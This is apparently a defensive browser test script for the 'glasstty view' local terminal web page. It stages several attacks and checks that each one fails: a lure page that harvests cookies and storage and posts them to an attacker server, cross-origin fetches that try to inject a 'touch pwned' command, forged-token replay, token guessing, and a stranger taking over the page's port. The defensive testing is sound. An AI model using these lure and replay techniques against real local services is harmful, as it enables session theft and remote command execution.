// Attacks on the page of `glasstty view`, in a real browser.
//
//     node attack.cjs BUILD
//
// A person has the page open. A server of somebody else listens on another port
// of this machine, gets the same browser to visit it, and tries with all that
// it learns there to get into the page. Another one takes over the port of a
// page that has ended.
"use strict";
const {spawn} = require("node:child_process");
const {mkdtempSync, rmSync} = require("node:fs");
const http = require("node:http");
const {tmpdir} = require("node:os");
const path = require("node:path");
const readline = require("node:readline");
const {Agent, check, findBrowser} = require("./agent.cjs");

const [build] = process.argv.slice(2);
const {puppeteer, chromium} = findBrowser();
const state = mkdtempSync(path.join(tmpdir(), "glasstty-attack-"));
const profile = mkdtempSync(path.join(tmpdir(), "glasstty-attack-profile-"));
const env = {...process.env, GLASSTTY_STATE_DIR: state};
const program = path.join(build, "src/cli/glasstty");
const DEADLINE = {timeout: 20000};

function startPage(...flags) {
  const server = spawn(program, ["view", ...flags], {env, stdio: ["ignore", "pipe", "inherit"]});
  const lines = readline.createInterface({input: server.stdout});
  return new Promise((ready) => lines.once("line", (link) => ready({server, link, port: Number(new URL(link).port)})));
}

function end(server, signal = "SIGTERM") {
  return new Promise((ended) => {
    server.once("exit", ended);
    server.kill(signal);
  });
}

function newLink() {
  const asker = spawn(program, ["view", "--new-link"], {env, stdio: ["ignore", "pipe", "inherit"]});
  const lines = readline.createInterface({input: asker.stdout});
  return new Promise((done) => lines.once("line", done));
}

// A server of another user: it keeps all that it is sent.
class Attacker {
  constructor(answer) {
    this.heard = [];
    this.server = http.createServer((request, response) => {
      let body = "";
      request.on("data", (piece) => body += piece);
      request.on("end", () => {
        this.heard.push({url: request.url, headers: request.headers, body});
        answer(request, response);
      });
    });
  }
  listen(port) {
    return new Promise((ready) => this.server.listen(port, "127.0.0.1", () => ready(this.server.address().port)));
  }
  close() {
    this.server.closeAllConnections();
    return new Promise((closed) => this.server.close(closed));
  }
}

// A request as no browser would send it. -> the status, and the first piece of
// the body
function ask(port, method, url, headers, body) {
  return new Promise((done) => {
    const request = http.request({port, host: "127.0.0.1", method, path: url, headers}, (reply) => {
      const answer = (text) => {
        request.destroy();
        done({status: reply.statusCode, text});
      };
      reply.once("data", (piece) => answer(String(piece)));
      reply.once("end", () => answer(""));
    });
    request.on("error", () => done({status: 0, text: ""}));
    request.end(body);
  });
}

// Everything that a server can ask a browser for. Its page tries the victim's
// address by all means that the browser has, and reports what it has found.
function lure(victim) {
  const attack = async (target) => {
    const found = {storage: {...localStorage}, session: {...sessionStorage}, cookie: document.cookie, read: []};
    const json = JSON.stringify({keys: [{text: "touch pwned"}, {key: "Enter"}]});
    const tries = [
      ["/api/stream", {credentials: "include"}],
      ["/api/stream", {credentials: "include", mode: "no-cors"}],
      ["/api/take", {method: "POST", credentials: "include", mode: "no-cors", body: json}],
      ["/api/keys", {method: "POST", credentials: "include", body: json, headers: {"Content-Type": "application/json"}}],
      ["/api/keys", {method: "POST", credentials: "include", body: json,
                     headers: {"Content-Type": "application/json", Authorization: "Bearer x"}}],
    ];
    for (const [url, how] of tries) {
      await fetch(target + url, {...how, signal: AbortSignal.timeout(1000)})
          .then(async (reply) => found.read.push(await reply.text()), () => {});
    }
    const frame = document.createElement("iframe");
    frame.src = target;
    document.body.append(frame);
    await new Promise((loaded) => frame.onload = loaded);
    try {
      found.read.push(frame.contentWindow.localStorage.length);
    } catch {
      // As it should be.
    }
    await fetch("/found", {method: "POST", body: JSON.stringify(found)});
    document.title = "done";
  };
  return `<!doctype html><title>x</title><body><script>(${attack})(${JSON.stringify(victim)})</script>`;
}

const rows = (page) => page.$eval("#rows", (all) => [...all.children].map((row) => row.textContent.trimEnd()).join("\n"));
const shows = (page, selector, text) => page.waitForFunction(
    (where, wanted) => document.querySelector(where)?.textContent.includes(wanted), DEADLINE, selector, text)
    .then(() => true, () => false);

async function choose(page, name) {
  await page.waitForFunction(
      (wanted) => [...document.querySelectorAll("nav .name")].some((one) => one.textContent === wanted), DEADLINE, name);
  await page.evaluate((wanted) => {
    [...document.querySelectorAll("nav button")].find((one) => one.querySelector(".name").textContent === wanted).click();
  }, name);
  await page.waitForFunction((wanted) => document.getElementById("name").textContent === wanted, DEADLINE, name);
}

// The attacker's part outside of the browser: with each header that it was sent,
// and each value in there as every kind of secret.
async function replay(heard, found, port) {
  const own = `127.0.0.1:${port}`;
  const secrets = new Set();
  const gather = (value) => String(value).split(/[^0-9A-Za-z_-]+/).forEach((word) => word.length > 15 && secrets.add(word));
  for (const {url, headers} of heard) [url, ...Object.values(headers)].forEach(gather);
  gather(JSON.stringify(found));
  const disguises = heard.map(({headers}) => headers);
  for (const secret of secrets) {
    disguises.push({authorization: `Bearer ${secret}`}, {cookie: `glasstty_${port}=${secret}`},
                   {cookie: `glasstty=${secret}`}, {"x-glasstty-owner": secret});
  }
  for (const {connection, "content-length": length, "transfer-encoding": encoding, ...sent} of disguises) {
    const headers = {...sent, host: own, origin: `http://${own}`, "sec-fetch-site": "same-origin"};
    const stream = await ask(port, "GET", "/api/stream", headers);
    if (stream.status !== 401) return `the stream is open to ${JSON.stringify(headers)}`;
    for (const action of ["take", "watch", "keys", "secret", "paste"]) {
      const reply = await ask(port, "POST", `/api/${action}`, {...headers, "content-type": "application/json"}, "{}");
      if (reply.status !== 401) return `${action} is answered with ${reply.status}`;
    }
  }
  return "";
}

async function otherPort(agent, browser, page, link, port) {
  const attacker = new Attacker((request, response) => {
    response.setHeader("Content-Type", "text/html");
    response.end(request.url === "/lure" ? lure(`http://127.0.0.1:${port}`) : "");
  });
  const attackersPort = await attacker.listen(0);
  // Any page of the web can send a visitor on.
  const anySite = new Attacker((_, response) => {
    response.writeHead(302, {Location: `http://127.0.0.1:${attackersPort}/lure`});
    response.end();
  });
  const visit = await browser.newPage();
  await visit.goto(`http://127.0.0.1:${await anySite.listen(0)}/`);
  check(await visit.waitForFunction(() => document.title === "done", DEADLINE).then(() => true, () => false),
        "another port of this machine gets the browser to visit it");
  await visit.close();
  const found = JSON.parse(attacker.heard.find(({url}) => url === "/found").body);
  check(found.read.length === 0, "its page reads nothing of ours");
  check(attacker.heard.every(({headers}) => !headers.cookie && !headers.authorization && !headers.referer?.includes(String(port))),
        "it is sent no secret");
  const opened = await replay(attacker.heard, found, port);
  check(opened === "", `nothing that it was sent opens the page ${opened}`);
  const token = new URL(link).hash.slice(1);
  const again = await ask(port, "POST", "/api/enter", {host: `127.0.0.1:${port}`, origin: `http://127.0.0.1:${port}`,
                                                       "content-type": "application/json"}, JSON.stringify({token}));
  check(again.status === 403, "the link works no second time");
  for (let i = 0; i < 50; ++i) {
    await ask(port, "GET", "/api/stream", {host: `127.0.0.1:${port}`, authorization: `Bearer ${i}`});
  }
  await agent.call("term_run", {session: "main", command: "echo still here; ls"});
  check(await shows(page, "#rows", "still here"), "the page goes on, however often somebody guesses");
  check(!(await rows(page)).includes("pwned"), "no command of the attacker was run");
  await Promise.all([attacker.close(), anySite.close()]);
}

// What a person expects of a browser that has been let in.
async function comeBack(browser, page, link) {
  check(!page.url().includes("#"), "the link's token does not stay in the address");
  await page.reload();
  check(await shows(page, "#list", "main"), "the page can be loaded again");
  const second = await browser.newPage();
  await second.goto(new URL("/", link).href);
  check(await shows(second, "#list", "main"), "another tab needs no link");
  await second.close();
  const stranger = await browser.createBrowserContext();
  const other = await stranger.newPage();
  await other.goto(link);
  check(await shows(other, "#notice", "this link has been used"), "another browser cannot use the link again");
  await other.goto(await newLink());
  check(await shows(other, "#list", "main"), "but one of its own, in the tab that is open");
  await stranger.close();
}

async function halfTyped(page) {
  const field = () => page.$eval("#secret-text", (one) => one.value);
  await choose(page, "pass");
  await page.waitForSelector("#secret.open", DEADLINE);
  await page.type("#secret-text", "half a sec");
  check(await field() === "half a sec", "a secret is half typed");
  await choose(page, "pass2");
  await page.waitForSelector("#secret.open", DEADLINE);
  check(await field() === "", "the next session does not get it");
  await page.type("#secret-text", "half");
  await page.click("#find");
  await page.type("#find", "word");
  check(await page.$eval("#find", (one) => one.value) === "word", "what is typed elsewhere stays there");
  await choose(page, "main");
  await page.waitForFunction(() => !document.getElementById("secret").classList.contains("open"), DEADLINE);
  check(await field() === "", "nor does it stay when nothing asks for one");
}

// The page has been killed, and somebody else has its port before it is back.
async function stolenPort(page, {server, port}) {
  await choose(page, "pass");
  await page.waitForSelector("#secret.open", DEADLINE);
  await page.type("#secret-text", "half a sec");
  await end(server, "SIGKILL");
  const thief = new Attacker((request, response) => {
    response.writeHead(200, {"Content-Type": "application/x-ndjson"});
    response.write(JSON.stringify({t: "hello", page: "x", proof: "x"}) + "\n");
    response.write(JSON.stringify({t: "facts", id: "x", state: "secret", can_type: true, mine: true}) + "\n");
  });
  await thief.listen(port);
  check(await shows(page, "#notice", "Another program answers"), "a stranger on the page's port is noticed");
  check(await page.$eval("#secret-text", (one) => one.value) === "", "a half-typed secret is gone");
  await page.keyboard.type("ls\n");
  await page.click("#find");
  check(thief.heard.every(({url}) => url === "/api/stream"), "and is sent nothing that is typed");
  await thief.close();
}

async function main() {
  const agent = new Agent(program, env);
  await agent.start();
  const asks = ["bash", "-c", "read -sp 'Password: ' p; echo got ${#p}; cat"];
  await agent.call("term_open", {name: "main", argv: ["bash", "--norc"], env: {PS1: "$ "}, cwd: state});
  await agent.call("term_open", {name: "pass", argv: asks});
  await agent.call("term_open", {name: "pass2", argv: asks});
  const view = await startPage();
  const launch = () => puppeteer.launch({executablePath: chromium, args: ["--no-sandbox"], userDataDir: profile});
  const errors = [];
  let browser = await launch();
  const open = async () => {
    const page = await browser.newPage();
    page.on("pageerror", (error) => errors.push(String(error)));
    return page;
  };
  try {
    let page = await open();
    await page.goto(view.link);
    check(await shows(page, "#list", "main"), "the link lets the browser in");
    await choose(page, "main");
    await otherPort(agent, browser, page, view.link, view.port);
    await comeBack(browser, page, view.link);
    await browser.close();
    browser = await launch();
    page = await open();
    await page.goto(new URL("/", view.link).href);
    check(await shows(page, "#list", "main"), "nor does the browser when it was closed");
    await halfTyped(page);
    await stolenPort(page, view);
    const next = await startPage(`--port=${view.port}`);
    await page.reload();
    check(await shows(page, "#notice", "open a link"), "what the page before has let in needs a new link");
    await page.goto(next.link);
    check(await shows(page, "#list", "main"), "and gets in by it");
    await end(next.server);
    check(errors.length === 0, `the page reports no errors ${errors}`);
  } finally {
    await browser.close();
    view.server.kill();
    agent.server.stdin.end();
    await new Promise((ended) => agent.server.once("exit", ended));
    for (const folder of [state, profile]) rmSync(folder, {recursive: true, force: true});
  }
}

main().then(() => process.exit(0), (error) => {
  console.error(`attack: ${error.message}`);
  process.exit(1);
});
